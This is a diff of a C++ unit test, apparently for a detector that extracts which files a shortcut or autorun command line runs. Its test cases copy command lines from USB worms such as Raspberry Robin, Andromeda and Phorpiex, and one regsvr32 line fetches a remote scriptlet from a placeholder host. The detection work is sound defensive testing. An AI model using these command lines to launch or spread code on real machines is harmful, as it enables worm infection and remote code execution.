@@ -45,22 +45,26 @@ TEST(rules_command_files, what_a_line_runs) {
         // VBS worms: the script runs, the folder and the document open for the user.
         {"cmd.exe", "/c start x.vbs&start explorer \"Photos\"&exit", {"x.vbs"}},
         {"cmd.exe", "/c start x.vbs&start \"\" \"CV.docx\"&exit", {"x.vbs"}},
-        {"cmd.exe", "/C \"start wscript.exe //e:vbscript ~$x.dat & start explorer Docs\"",
+        {"cmd.exe",
+         "/C \"start wscript.exe //e:vbscript ~$x.dat & start explorer Docs\"",
          {"~$x.dat*"}},
         // Raspberry Robin: cmd reads commands from a file; mixed case, no space after /r.
         {"C:\\Windows\\System32\\cmd.exe", "/RcMD<qjM.chK", {"qjM.chK*"}},
         {"cmd.exe", "/q /d /c cmd < \"E:\\abc.xyz\"", {"E:\\abc.xyz*"}},
         // Andromeda and autorun worms: rundll32's library, whatever its name.
         {"%windir%\\system32\\rundll32.exe", "~$W1A2B.usb,Export", {"~$W1A2B.usb*"}},
-        {"rundll32.exe", ".\\RECYCLER\\S-5-3-42\\jwgkvsq.vmx,ahaezedrn",
+        {"rundll32.exe",
+         ".\\RECYCLER\\S-5-3-42\\jwgkvsq.vmx,ahaezedrn",
          {".\\RECYCLER\\S-5-3-42\\jwgkvsq.vmx*"}},
         {"regsvr32", "/s /u /i:http://x/y scrobj.dll e:\\lib.ocx", {"scrobj.dll*", "e:\\lib.ocx*"}},
         // Phorpiex, script-folder and memory-card worms.
         {"cmd.exe", "/c start _ & _\\DeviceManager.exe & exit", {"_\\DeviceManager.exe"}},
         {"cmd", "/C .\\WindowsServices\\helper.vbs", {".\\WindowsServices\\helper.vbs"}},
-        {"wscript.exe", "//B \"WindowsServices\\installer.vbs\"",
+        {"wscript.exe",
+         "//B \"WindowsServices\\installer.vbs\"",
          {"WindowsServices\\installer.vbs*"}},
-        {"cmd.exe", "/c ren sys\\*.vbss *.vbs &start \\sys\\x.vbs&start explorer Docs&exit",
+        {"cmd.exe",
+         "/c ren sys\\*.vbss *.vbs &start \\sys\\x.vbs&start explorer Docs&exit",
          {"sys\\*.vbss?", "\\sys\\x.vbs"}},
         // Other hosts.
         {"mshta.exe", "E:\\run.hta", {"E:\\run.hta*"}},
@@ -70,7 +74,13 @@ TEST(rules_command_files, what_a_line_runs) {
         {"conhost.exe", "--headless cmd.exe /c start y.js", {"y.js"}},
         {"cmd.exe", "/c call run.bat & cmd /c start z.exe", {"run.bat", "z.exe"}},
         // A program on the stick runs itself; a document target opens for the user.
-        {"E:\\" "\xe3\x85\xa4" "\\ .exe", "", {"E:\\" "\xe3\x85\xa4" "\\ .exe"}},
+        {"E:\\"
+         "\xe3\x85\xa4"
+         "\\ .exe",
+         "",
+         {"E:\\"
+          "\xe3\x85\xa4"
+          "\\ .exe"}},
         {"C:\\Windows\\explorer.exe", "Photos", {"C:\\Windows\\explorer.exe"}},
         {"cmd.exe", "/k", {}},
         {"cmd.exe", "", {}},
